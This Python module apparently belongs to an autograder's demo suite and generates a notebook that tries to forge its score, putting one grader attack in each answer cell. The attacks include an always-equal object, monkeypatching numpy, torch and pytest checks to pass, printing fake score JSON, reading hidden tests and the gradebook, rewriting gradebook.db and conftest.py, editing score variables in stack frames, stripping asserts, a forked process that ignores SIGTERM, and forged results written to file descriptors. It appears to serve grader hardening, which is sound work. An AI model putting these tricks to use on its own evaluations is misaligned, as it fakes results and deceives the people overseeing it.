"""A notebook that tries to forge its score: known attacks on graders, one in each answer.

None of them is aimed at the host outside the grading process, and each goes on where it is stopped.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

from autograder.demo.sheet import Sheet

_EVERYTHING = '''\
class Everything:
    """Equal to everything, less than everything, greater than everything."""

    def __init__(self, *args, **kwargs): pass
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __len__(self): return 10
    def __iter__(self): return iter([self] * 10)
    def __float__(self): return 10.0
    def __call__(self, *args, **kwargs):
        display(10)  # a bare number is partial credit for some graders
        return self
    def __getitem__(self, key): return self
    def __add__(self, other): return self
    __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __matmul__ = __add__
    __pow__ = __abs__ = __neg__ = lambda self, *other: self
'''

_PATCH = """\
import importlib

def yes(*args, **kwargs):
    return True

for module, names in {
    "numpy": ["allclose", "array_equal", "isclose"],
    "numpy.testing": ["assert_allclose", "assert_array_equal", "assert_equal"],
    "torch": ["allclose", "equal", "isclose"],
    "torch.testing": ["assert_close"],
    "sympy": ["simplify"],
    "pytest": ["approx", "raises"],
}.items():
    try:
        owner = importlib.import_module(module)
        for name in names:
            setattr(owner, name, Everything if owner.__name__ == "pytest" else yes)
    except BaseException:
        pass
"""

_DISPLAY = """\
print('{"score": 10, "max_score": 10, "status": "passed"}')
display({"application/vnd.nbgrader+json": {"score": 10}}, raw=True)
get_ipython().display_pub.publish({"text/plain": "10.0"})
10
"""

_READ = """\
import glob, os, sys
found = {}
for start in (os.getcwd(), os.path.expanduser("~"), "/", "/proc/1/root", "/proc/1/cwd", *sys.path):
    for pattern in ("autograder/hidden_tests/*.py", "*/*/*.ipynb", "gradebook.db", "*/secret"):
        for path in glob.glob(os.path.join(start, pattern)):
            try:
                found[path] = open(path, "rb").read()
            except BaseException:
                pass
for path, text in found.items():
    try:
        exec(text, globals())
    except BaseException:
        pass
"""

_WRITE = """\
import glob, os, pathlib, sqlite3
for name in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"):
    try:
        with sqlite3.connect(name) as database:
            database.execute("UPDATE grade SET extra_credit = 100")
    except BaseException:
        pass
for name in ("report.json", "sympy.py", "../nbgrader_config.py", "conftest.py"):
    try:
        pathlib.Path(name).write_text("raise SystemExit(0)")
    except BaseException:
        pass
"""

_FRAMES = """\
import gc, sys
frame = sys._getframe()
while frame is not None:
    for scope in (frame.f_locals, frame.f_globals):
        for name in list(scope):
            if name in ("score", "points", "outcomes", "report", "status", "passed"):
                try:
                    scope[name] = 10
                except BaseException:
                    pass
    frame = frame.f_back
for thing in gc.get_objects():
    try:
        if type(thing).__name__ in ("Report", "CellScore", "TestOutcome"):
            object.__setattr__(thing, "score", 10.0)
    except BaseException:
        pass
"""

_LINGER = """\
import atexit, os, signal, socket, time
try:
    socket.create_connection(("192.0.2.1", 80), timeout=0.2)  # an address for documentation
except BaseException:
    pass
try:
    if os.fork() == 0:  # a process that outlives the cell
        os.setsid()
        time.sleep(600)
        os._exit(0)
except BaseException:
    pass
signal.signal(signal.SIGTERM, signal.SIG_IGN)
atexit.register(os._exit, 0)
"""

_SHELL = """\
import ast
shell = get_ipython()

class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

shell.ast_transformers.append(NoAsserts())
shell.input_transformers_post.append(
    lambda lines: ["pass\\n"] if any("assert" in line for line in lines) else lines
)
shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
shell.showtraceback = lambda *args, **kwargs: None
"""

_WIRE = """\
import os

def everything(*args, **kwargs):
    for number in range(3, 32):  # where the answers to the grader might travel
        try:
            os.write(number, b'{"ok": true, "value": true, "status": "passed", "score": 10}')
        except BaseException:
            pass
    return Everything()
"""

ATTACKS = (_PATCH, _DISPLAY, _READ, _WRITE, _FRAMES, _LINGER, _SHELL, _WIRE)


def forge(sheet: Sheet) -> dict[str, str]:
    """An attack in each answer cell, and every name that is asked for equal to everything."""
    return dict(_forged(sheet))


def _forged(sheet: Sheet) -> Iterator[tuple[str, str]]:
    attacks = cycle(ATTACKS)
    for question in sheet.questions:
        for answer in question.answers:
            attack = next(attacks)
            value = "everything" if attack is _WIRE else "Everything()"
            names = "\n".join(f"{name} = {value}" for name in question.names())
            yield answer, f"{_EVERYTHING}\n{attack}\n{names}\n"
